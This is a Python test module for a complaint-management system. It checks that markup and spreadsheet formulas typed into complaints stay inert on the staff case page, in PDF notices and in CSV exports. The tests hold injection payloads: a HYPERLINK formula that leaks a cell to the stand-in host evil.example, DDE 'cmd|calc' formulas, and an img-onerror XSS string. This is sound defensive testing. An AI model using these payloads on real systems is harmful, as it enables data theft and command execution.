"""Markup and spreadsheet formulas in a complaint stay text: escaped on the staff
case page, plain text in the PDF notice, quoted in CSV cells.

Not repeated here: ``<script>`` on the public pages (tests/e2e/test_web_public.py,
test_public_and_merge.py), on the staff case page (test_web_staff_core.py), in
the notice PDF's description (tests/unit/test_notice_pdf.py), and formulas in
the monthly XLSX report (tests/unit/test_monthly_report.py).
"""

from __future__ import annotations

import asyncio
import csv
import io
import re
import subprocess
import uuid
from datetime import timedelta

import asyncpg
import pytest
from markupsafe import escape

from tests.domain_kit import OPERATOR, ReplayExecutor
from tests.web_kit import add_user, gateway_client, sign_in
from tousu.services.metrics.kpi.export import inert
from tousu.shared.calendar import WorkdayCalendar
from tousu.shared.domain import commands as c
from tousu.shared.domain.complaint import DecisionContext
from tousu.shared.events import utcnow
from tousu.shared.events.types import Channel, Complainant
from tousu.shared.settings import Settings
from tousu.shared.store.postgres import PostgresEventStore

# What a spreadsheet would run, by each prefix that starts a formula (OWASP).
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    # Spreadsheets skip leading blanks and line breaks before the formula sign.
    "\n=1+1",
    " =2+2",
    "\u3000=3+3",
    " \r\n @SUM(1+1)",
)


def hostile(field: str) -> str:
    """Markup that would run in a page, marked with the field it went into."""
    return f"=HYPERLINK(\"x\") <img src=x onerror=alert('{field}')> <b>{field}</b>"


TEXT_FIELDS = ("subject", "description", "location", "people_involved", "demands")
PERSON_FIELDS = ("name", "address")


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_csv_cell_never_starts_a_formula(formula: str) -> None:
    out = io.StringIO()
    csv.writer(out).writerow([inert(formula), inert("普通文字"), inert("")])
    cell, plain, empty = next(csv.reader(io.StringIO(out.getvalue())))
    assert cell == "'" + formula  # shown as typed, run never
    assert (plain, empty) == ("普通文字", "")


def pdf_text(pdf: bytes) -> str:
    run = subprocess.run(["pdftotext", "-", "-"], input=pdf, capture_output=True, check=True)
    return re.sub(r"\s+", " ", run.stdout.decode())


async def file_hostile_case(store: PostgresEventStore) -> uuid.UUID:
    received = utcnow() - timedelta(hours=1)
    # Each step recorded as it happened.
    executor = ReplayExecutor(
        store, lambda: DecisionContext(calendar=WorkdayCalendar(), now=utcnow())
    )
    cid = uuid.uuid4()
    await executor.execute(
        cid,
        c.SubmitComplaint(
            actor=OPERATOR,
            occurred_at=received,
            channel=Channel.LETTER,
            tracking_no="TS-2026-000666",
            complainant=Complainant(
                name=hostile("name"), phone="13700000000", address=hostile("address")
            ),
            **{field: hostile(field) for field in TEXT_FIELDS},
        ),
    )
    await executor.execute(
        cid,
        c.AcceptComplaint(
            actor=OPERATOR,
            occurred_at=received + timedelta(minutes=1),
            category="service_quality",
        ),
    )
    return cid


async def test_markup_in_every_field_is_text_on_the_case_page_and_in_the_notice(
    settings: Settings, store: PostgresEventStore, pool: asyncpg.Pool
) -> None:
    cid = await file_hostile_case(store)
    await add_user(pool, "sup-inert", "supervisor", None)
    async with gateway_client(settings) as client:
        await sign_in(client, "sup-inert")
        page = await client.get(f"/staff/cases/{cid}")
        assert page.status_code == 200, page.text
        text = page.text
        assert "<img src=x" not in text
        # The complainant's name and address are masked here (H2's privacy).
        for field in TEXT_FIELDS:
            assert f"<b>{field}</b>" not in text, field
            assert escape(f"<img src=x onerror=alert('{field}')>") in text, field

        link = re.search(rf'href="(/staff/cases/{cid}/notices/[0-9a-f-]+\.pdf)"', text)
        assert link, "no notice on the case page"
        pdf = await client.get(link.group(1))
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF")
    shown = await asyncio.to_thread(pdf_text, pdf.content)
    # The notice quotes the complaint as the complainant wrote it, tags and all.
    assert "<img src=x onerror=alert('subject')>" in shown
